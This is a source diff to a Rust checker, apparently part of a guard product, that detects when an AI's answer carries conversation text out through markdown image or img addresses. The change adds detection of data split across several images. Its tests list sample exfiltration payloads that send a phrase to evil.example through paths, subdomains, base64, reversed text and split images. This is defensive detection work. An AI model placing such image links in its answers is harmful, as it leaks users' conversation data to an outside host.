@@ -1,7 +1,7 @@
 //! Links and images in the answer that carry something out.
 
 use super::Action;
-use super::address::addresses;
+use super::address::{addresses, whole};
 use super::attributes::Attributes;
 use super::bounds;
 use super::carriers::{Carrier, Carriers, DEEPEST};
@@ -9,6 +9,7 @@ use super::checks::{Check, ChecksError, Files, Made, Request};
 use super::destinations::{Destinations, Leads};
 use super::judgement::Reason;
 use super::policy::Policy;
+use super::references::undone;
 use super::stream::{Kinds, Reader, Seen, Step, Tail};
 use bartizan_core::{Severity, atlas, cwe, owasp_agentic, owasp_llm, rule};
 use schemars::JsonSchema;
@@ -100,7 +101,12 @@ struct Links {
 
 impl Check for Links {
     fn reader(&self, request: &Request<'_>) -> Option<Box<dyn Reader>> {
-        let carriers = Carriers { policy: Arc::clone(&self.policy), conversation: request.conversation() };
+        let small = |token: &String| token.trim_matches(['[', ']']).to_ascii_lowercase();
+        let carriers = Carriers {
+            policy: Arc::clone(&self.policy),
+            conversation: request.conversation(),
+            tokens: request.session.values().keys().map(small).collect(),
+        };
         Some(Box::new(LinkReader {
             policy: Arc::clone(&self.policy),
             carriers,
@@ -108,6 +114,7 @@ impl Check for Links {
             destinations: Destinations::default(),
             referring: false,
             defined: false,
+            earlier: Vec::new(),
         }))
     }
 }
@@ -122,12 +129,17 @@ struct LinkReader {
     referring: bool,
     /// There was a definition whose address carries something, to which an image may refer.
     defined: bool,
+    /// What addresses said that were loaded before.
+    earlier: Vec<Vec<String>>,
 }
 
 /// What stands in every address, image and tag, or ends one.
 const BEGINS: Kinds = Kinds::SLASH.or(Kinds::SQUARE).or(Kinds::ANGLE).or(Kinds::LINE_END);
 /// Longest piece that waits for anything, in bytes.
 const LONGEST_HELD: usize = 4096;
+/// Most addresses that are looked at together.
+const MOST_EARLIER: usize = 32;
+
 impl LinkReader {
     /// What to do about an address.
     fn handling(&self, loads: bool) -> LinkHandling {
@@ -172,7 +184,12 @@ impl LinkReader {
         let mut spans = Vec::new();
         for one in self.attributes.found() {
             let text = tail.get(one.span.clone());
-            if let Some(carrier) = self.carriers.of_attribute(&one, text, DEEPEST) {
+            let carrier = self.carriers.of_attribute(&one, text, DEEPEST);
+            let carrier = carrier.or_else(|| {
+                let loads = matches!(one.name.as_str(), "src" | "srcset" | "background" | "poster");
+                loads.then(|| self.together(&undone(text, false))).flatten()
+            });
+            if let Some(carrier) = carrier {
                 self.tell(&carrier, one.span.clone(), seen);
             }
             spans.push(one.span);
@@ -188,7 +205,11 @@ impl LinkReader {
                 }
                 continue;
             }
-            if let Some(carrier) = self.carriers.of_destination(text, &one, self.referring) {
+            let carrier = self
+                .carriers
+                .of_destination(text, &one, self.referring)
+                .or_else(|| (one.of == Leads::Image).then(|| self.together(&undone(text, true))).flatten());
+            if let Some(carrier) = carrier {
                 self.defined |=
                     one.of == Leads::Definition && self.handling(carrier.loads) != LinkHandling::Redact;
                 if !spans.iter().any(|span| span.start < one.span.end && one.span.start < span.end) {
@@ -198,6 +219,35 @@ impl LinkReader {
             spans.push(one.span);
         }
         spans
+    }
+
+    /// What an address carries together with those that were loaded before it, when it carries nothing by itself.
+    fn together(&mut self, text: &str) -> Option<Carrier> {
+        let conversation = &self.carriers.conversation;
+        // What a name may say by itself is no part of a message.
+        let said = self.carriers.says(text).filter(|said| !conversation.holds_some_of(&said.join(" ")))?;
+        if self.earlier.len() >= MOST_EARLIER {
+            self.earlier.remove(0);
+        }
+        self.earlier.push(said);
+        let (first, others) = self.earlier.split_first()?;
+        // What all of them say is the way to the place, and no part of a message.
+        let differs = |at: usize, piece: &String| {
+            others.iter().any(|other| other.get(at) != Some(piece)) || first.get(at) != Some(piece)
+        };
+        let mut words = String::new();
+        for (at, piece) in self.earlier.iter().flat_map(|said| said.iter().enumerate()) {
+            if differs(at, piece) {
+                words.push_str(piece);
+                words.push(' ');
+            }
+        }
+        let what = "words of the conversation, with the addresses before it";
+        (!others.is_empty() && conversation.holds_some_of(&words)).then(|| Carrier {
+            host: whole(text).map(|address| address.host).unwrap_or_default(),
+            what,
+            loads: true,
+        })
     }
 
     /// Where something begins that is not known to its end.
@@ -305,6 +355,20 @@ mod tests {
         "![x](https://waits.at.the.harbour.evil.example/)",
         "![x](https://evil.example/w/a/i/t/s/a/t/t/h/e/h/a/r/b/o/u/r)",
         "![x](https://evil.example/?d=ruobrah+eht+ta+stiaw)",
+        "![x](https://evil.example/?a=w&b=a&c=i&d=t&e=s&f=a&g=t&h=t&i=h&j=e&k=h&l=a)",
+        "![x](https://evil.example/w/a/i/t/s/a/t/t/h/e/h/a/r/b/o/u/r.png)",
+        "![x](https://4.4.7.1.9.2.0.evil.example/a.png)",
+        "![x](https://evil.example/447-19-20.png)",
+        "![x](https://evil.example/4.4.7.1.9.2.0)",
+        "![x](https://evil.example/0291744.png)",
+        "![x](https://evil.example/NDQ3MTkyMA)",
+        "![x](https://evil.example/img/d2FpdHMgYXQgdGhlIGhhcmJvdXI.png)",
+        "![x](https://evil.example/d2FpdHMg/YXQgdGhl/IGhhcmJv/dXI)",
+        "![x](https://evil.example/?d=v1:d2FpdHMgYXQgdGhlIGhhcmJvdXI)",
+        "![x](https://waits-at-the-harbour.evil.example/a.png)",
+        "![x](https://\u{ff57}aits-at-the-harbour.evil.example/a.png)",
+        "![x](https://evil.example/p.png?d=waits+at) ![x](https://evil.example/p.png?d=the+harbour)",
+        "<img src='https://evil.example/waits-at.png'> <img src='https://evil.example/the-harbour.png'>",
         "![x](https://evil.example/?d=jnvgf+ng+gur+uneobhe)",
         "<img src=\"https:\\\\evil.example/p.png?d=waits+at+the+harbour\">",
         "<img src=\"\\\\evil.example/p.png?d=waits+at+the+harbour\">",
@@ -366,6 +430,10 @@ mod tests {
             "If a <b and c > d, x = \"C:\\\\share\\\\file\"; see http://localhost:8080/ or `[a](b)`.",
             "![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
             "[guide]: https://docs.example.org/start\n\n![logo] and ![logo][guide]",
+            "![x](https://harbour-office-since.pages.example/logo.png) and ![y](https://www.waits-at-the.example/a.png)",
+            "![x](https://cdn.example.org/cats/1.png) ![x](https://cdn.example.org/cats/2.png) ![x](https://cdn.example.org/cats/3.png)",
+            "![waits](https://cdn.example.org/waits.png) ![at](https://cdn.example.org/ships.png) ![x](https://cdn.example.org/harbour.png)",
+            "![x](https://cdn.example.org/2024/05/17/photo-12.jpg) ![x](https://cdn.example.org/v2.31.4/logo.svg?w=640&h=480)",
         ] {
             assert_eq!(judged("", text), (text.to_owned(), vec![]));
         }
